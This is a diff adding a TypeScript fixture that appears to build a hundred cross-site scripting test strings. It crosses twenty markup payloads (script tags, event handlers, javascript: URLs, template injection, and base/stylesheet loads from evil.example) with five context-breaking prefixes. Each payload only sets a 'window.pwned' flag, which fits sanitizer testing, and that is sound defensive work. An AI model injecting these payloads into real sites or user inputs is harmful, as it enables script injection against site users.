@@ -1,0 +1,29 @@
+/** What runs where a page takes a text for markup, each with a way of its own to set `window.pwned`. */
+const MARKS = [
+  '<script>window.pwned=1</script>',
+  '<img src=x onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1">',
+  '<svg><script>window.pwned=1</script></svg>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<details open ontoggle="window.pwned=1">',
+  '<input autofocus onfocus="window.pwned=1">',
+  '<video><source onerror="window.pwned=1"></video>',
+  '<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>',
+  '<a href="javascript:window.pwned=1">open</a>',
+  '<form action="javascript:window.pwned=1"><button>go</button></form>',
+  '<object data="javascript:window.pwned=1"></object>',
+  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
+  '<base href="//evil.example/">',
+  '<link rel=stylesheet href="//evil.example/x.css">',
+  '<style>@import "//evil.example/x.css";</style>',
+  '{{constructor.constructor("window.pwned=1")()}}',
+  '<button popovertarget=x onclick=window.pwned=1>x</button>',
+  'javascript:window.pwned=1',
+  '<body onload=window.pwned=1>',
+];
+
+/** How a text tries to leave the place where it stands. */
+const WAYS_OUT = ['', '">', "'>", '</title></textarea></script>', '--><!--'];
+
+/** A hundred of them. */
+export const hostileTexts: readonly string[] = WAYS_OUT.flatMap((way) => MARKS.map((mark) => way + mark));
